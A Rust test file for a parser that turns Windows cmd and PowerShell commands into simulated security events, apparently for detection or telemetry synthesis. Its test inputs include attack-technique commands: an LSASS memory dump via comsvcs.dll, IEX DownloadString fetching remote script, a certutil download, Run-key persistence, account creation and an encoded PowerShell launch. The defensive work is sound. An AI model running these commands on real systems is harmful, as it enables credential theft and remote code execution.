use super::*;
use crate::synth::winbinary::powershell_script;

fn ctx() -> Ctx<'static> {
    Ctx {
        user: "alice",
        host: "WS01",
        cwd: r"C:\Users\alice",
    }
}

#[test]
fn cmd_statements_spawn_and_imply() {
    let s = analyse(
        r#"reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Atomic /t REG_SZ /d "C:\x.exe" /f"#,
        Shell::Cmd,
        &ctx(),
    );
    let sp = s.spawn.unwrap();
    assert_eq!(sp.image, r"C:\Windows\System32\reg.exe");
    assert!(s.effects.contains(&Effect::RegSetValue {
        target: format!(
            r"HKU\{}\Software\Microsoft\Windows\CurrentVersion\Run\Atomic",
            crate::synth::winsec::user_sid("alice")
        ),
        details: r"C:\x.exe".into()
    }));
    let s = analyse("echo hi > %TEMP%\\out.txt", Shell::Cmd, &ctx());
    assert!(s.spawn.is_none());
    assert_eq!(
        s.shell_effects,
        [Effect::WriteFile(
            r"C:\Users\alice\AppData\Local\Temp\out.txt".into()
        )]
    );
    let s = analyse(r#"net user /add "T1136.001_CMD" "pw!""#, Shell::Cmd, &ctx());
    assert_eq!(s.effects, [Effect::UserAdd("T1136.001_CMD".into())]);
    let s = analyse(
        r#"schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe""#,
        Shell::Cmd,
        &ctx(),
    );
    assert_eq!(
        s.effects,
        [Effect::TaskCreate {
            name: "T1053_005_OnLogon".into(),
            command: "cmd.exe /c calc.exe".into()
        }]
    );
    let s = analyse(
        "certutil -urlcache -split -f https://example.org/a.exe C:\\Temp\\a.exe",
        Shell::Cmd,
        &ctx(),
    );
    assert_eq!(
        s.effects,
        [
            Effect::Fetch {
                host: "example.org".into(),
                port: 443
            },
            Effect::WriteFile(r"C:\Temp\a.exe".into())
        ]
    );
}

#[test]
fn powershell_statements() {
    let s = analyse(
        r"C:\Windows\System32\rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).id $env:TEMP\lsass-comsvcs.dmp full",
        Shell::PowerShell,
        &ctx(),
    );
    assert_eq!(
        s.spawn.as_ref().unwrap().image,
        r"C:\Windows\System32\rundll32.exe"
    );
    assert!(s.effects.contains(&Effect::LsassAccess("0x1fffff")));
    assert!(s.effects.contains(&Effect::WriteFile(
        r"C:\Users\alice\AppData\Local\Temp\lsass-comsvcs.dmp".into()
    )));
    let s = analyse(
        "IEX (New-Object Net.WebClient).DownloadString('https://raw.example.com/x.ps1')",
        Shell::PowerShell,
        &ctx(),
    );
    assert!(s.spawn.is_none());
    assert_eq!(
        s.effects,
        [Effect::Fetch {
            host: "raw.example.com".into(),
            port: 443
        }]
    );
    let s = analyse(
        r#"Set-ItemProperty -Path "HKLM:\SOFTWARE\x" -Name "y" -Value 1"#,
        Shell::PowerShell,
        &ctx(),
    );
    assert_eq!(
        s.effects,
        [Effect::RegSetValue {
            target: r"HKLM\SOFTWARE\x\y".into(),
            details: "DWORD (0x00000001)".into()
        }]
    );
    let s = analyse(
        "Start-Process -FilePath cmd.exe -ArgumentList \"/c whoami\"",
        Shell::PowerShell,
        &ctx(),
    );
    assert_eq!(
        s.spawn.unwrap().cmd,
        r#""C:\Windows\System32\cmd.exe" /c whoami"#
    );
}

#[test]
fn powershell_command_lines_are_unwrapped() {
    let w = wintools_words("powershell.exe -nop -ep bypass -enc dwBoAG8AYQBtAGkA");
    assert_eq!(powershell_script(&w).as_deref(), Some("whoami"));
    let w = wintools_words("powershell.exe -NoProfile -Command \"Get-Process\"");
    assert_eq!(powershell_script(&w).as_deref(), Some("Get-Process"));
    let w = wintools_words("powershell.exe \"IEX (x)\"");
    assert_eq!(powershell_script(&w).as_deref(), Some("IEX (x)"));
    assert_eq!(
        url_host("x http://10.1.1.5:8080/a"),
        Some(("10.1.1.5".into(), 8080))
    );
    assert_eq!(url_host("https://#{server}/x"), None);
}

fn wintools_words(s: &str) -> Vec<String> {
    crate::synth::wintools::words(s, false)
}

#[test]
fn odd_syntax_starts_no_phantom_process() {
    // A redirection is not a separator, an assignment is not a binary, a lone `@` no program.
    let c = ctx();
    assert_eq!(
        cmd_script_statements("whoami >nul 2>&1 & hostname"),
        ["whoami >nul 2>&1", "hostname"]
    );
    assert!(
        analyse(r#"$ShortCut.TargetPath="cmd.exe""#, Shell::PowerShell, &c)
            .spawn
            .is_none()
    );
    assert!(analyse("@", Shell::Cmd, &c).spawn.is_none());
    let here = "$s = @\"\nnot-a-command.exe /x\n\"@\nwhoami";
    assert_eq!(
        crate::synth::wintools::ps_statements(here),
        ["$s = @\"\nnot-a-command.exe /x\n\"@", "whoami"]
    );
    // Quotes that only group, and documents opened by their program.
    let s = analyse(r#"""C:\Program Files\dcrypt"\dcrypt.exe""#, Shell::Cmd, &c);
    assert_eq!(
        s.spawn.unwrap().image,
        r"C:\Program Files\dcrypt\dcrypt.exe"
    );
    let s = analyse(r"C:\Users\alice\AtomicTest.vbs", Shell::Cmd, &c);
    let sp = s.spawn.unwrap();
    assert_eq!(sp.image, r"C:\Windows\System32\wscript.exe");
    assert!(sp.cmd.ends_with(r#""C:\Users\alice\AtomicTest.vbs""#));
}
